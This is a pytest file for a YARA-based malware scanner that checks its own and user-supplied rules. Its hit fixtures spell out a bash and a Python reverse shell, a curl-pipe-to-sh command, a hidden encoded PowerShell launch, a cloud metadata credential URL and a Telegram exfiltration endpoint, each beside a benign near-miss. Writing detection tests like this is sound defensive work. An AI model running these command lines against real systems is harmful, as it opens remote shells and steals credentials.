"""YARA rules, ours and the user's, by the real yara-x."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.opinions.subjects import budget, subject
from weighbridge.core.limits import MIB
from weighbridge.engine.second_opinion import examine
from weighbridge.errors import UsageError
from weighbridge.formats.kinds import Format
from weighbridge.knowledge.locate import signatures_dir
from weighbridge.opinions.interface import OpinionResult, Stance
from weighbridge.opinions.yara_rules import YaraOpinion

OWN = signatures_dir() / "yara"
BASE64 = "QQ" * 30
PYTHON_SHELL = (
    "s=socket.socket();s.connect(('198.51.100.1',4444));os.dup2(s.fileno(),0);"
    "os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(['/bin/sh','-i'])"
)
HITS = {
    "reverse_shell": "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1",
    "python_reverse_shell": PYTHON_SHELL,
    "coin_miner": "stratum+tcp://pool.example.invalid:3333",
    "encoded_python": "exec(base64.b64decode('QQ=='))",
    "encoded_powershell": f"powershell.exe -nop -w hidden -enc {BASE64}",
    "download_and_run": "curl -s https://example.invalid/i.sh | sh",
    "metadata_service": "http://169.254.169.254/latest/meta-data/iam/",
    "exfiltration_channel": f"https://api.telegram.org/bot123456789:{'A' * 35}/sendDocument",
}
NEAR_MISSES = {
    "reverse_shell": "bash -i is an interactive shell; /dev/tcp is a name that bash knows",
    "python_reverse_shell": "s = socket.socket(); subprocess.run(['make', 'sh'])",
    "coin_miner": "the stratum of the sample; xmrig is a miner",
    "encoded_python": "data = base64.b64decode(text); exec(code)",
    "encoded_powershell": "powershell.exe -File install.ps1 -encoding utf8",
    "download_and_run": "curl -O https://example.invalid/model.bin | tee log",
    "metadata_service": "the address 169.254.169.254 is link-local",
    "exfiltration_channel": "see https://api.telegram.org/ for the bot interface",
}
MINOR = {"download_and_run", "metadata_service", "exfiltration_channel"}


def judged(data: bytes, users: Path | None = None) -> OpinionResult:
    engine = YaraOpinion(OWN, users)
    return examine(engine, subject(data, Format.UNKNOWN), budget()).result


def test_every_own_rule_has_a_hit_and_a_near_miss_here_and_says_why() -> None:
    text = "".join(path.read_text() for path in sorted(OWN.glob("*.yar")))
    names = {line.split()[1] for line in text.splitlines() if line.startswith("rule ")}
    assert names == HITS.keys() == NEAR_MISSES.keys()
    assert text.count("why = ") == text.count("reference = ") == len(names)


@pytest.mark.parametrize("name", HITS)
def test_an_own_rule_hits_wherever_it_stands_in_the_bytes(name: str) -> None:
    padding = b"\x80\x04\x95" + b"\0" * 5000
    result = judged(padding + HITS[name].encode() + b"\0\xff")
    assert result.stance is Stance.OBJECTS
    (objection,) = result.objections
    assert objection.subject == f"weighbridge:{name}"
    assert objection.rule == ("OPN008" if name in MINOR else "OPN007")
    assert objection.offset is not None
    assert len(padding) <= objection.offset < len(padding) + len(HITS[name])
    assert "at byte" in objection.evidence


@pytest.mark.parametrize("name", NEAR_MISSES)
def test_an_own_rule_does_not_hit_what_only_looks_like_it(name: str) -> None:
    assert judged(NEAR_MISSES[name].encode()).stance is Stance.NO_OBJECTION


def test_rules_of_the_user_are_run_too_under_their_own_name(tmp_path: Path) -> None:
    (tmp_path / "mine.yara").write_text(
        'rule marker { meta: description = "Ours." strings: $a = "weighbridge-marker" condition: $a }'
    )
    result = judged(b"xx weighbridge-marker", tmp_path)
    (objection,) = result.objections
    assert (objection.rule, objection.subject, objection.offset) == ("OPN007", "user:marker", 3)
    assert "Ours." in objection.evidence


def test_a_condition_that_counts_sees_every_match(tmp_path: Path) -> None:
    (tmp_path / "many.yar").write_text('rule many { strings: $a = "ab" condition: #a == 500 }')
    result = judged(b"ab " * 500, tmp_path)
    assert [one.subject for one in result.objections] == ["user:many"]


@pytest.mark.parametrize(
    ("rules", "words"),
    [
        ("rule x {", "are wrong"),
        ('include "/etc/hostname"', "are wrong"),
        (None, "no YARA rules in"),
    ],
    ids=["syntax", "include", "none"],
)
def test_wrong_rules_are_the_users_mistake_and_said_before_the_scan(
    tmp_path: Path, rules: str | None, words: str
) -> None:
    if rules is not None:
        (tmp_path / "mine.yar").write_text(rules)
    with pytest.raises(UsageError, match=words):
        YaraOpinion(OWN, tmp_path).check_rules()


def test_a_rule_that_takes_too_long_is_a_limit_and_not_clean(tmp_path: Path) -> None:
    (tmp_path / "slow.yar").write_text(
        "rule slow { condition: for all i in (0..1000000000000) : ( uint8(i % 100) != 1 ) }"
    )
    engine = YaraOpinion(OWN, tmp_path)
    short = budget()
    short.deadline -= 29
    result = examine(engine, subject(b"\0" * 200, Format.UNKNOWN), short).result
    assert result.stance is Stance.LIMITED


def test_what_does_not_fit_into_memory_is_a_limit_and_not_clean() -> None:
    small = budget(memory_bytes=4 * MIB)
    result = YaraOpinion(OWN, None).examine(subject(b"\0" * (2 * MIB), Format.UNKNOWN), small)
    assert result.stance is Stance.LIMITED
    assert "--max-memory" in result.reason


def test_an_empty_file_is_skipped() -> None:
    assert judged(b"").stance is Stance.SKIPPED


def test_it_is_installed_and_has_a_version() -> None:
    engine = YaraOpinion(OWN, None)
    assert engine.is_available() is None
    assert (engine.version() or "").startswith("1.")
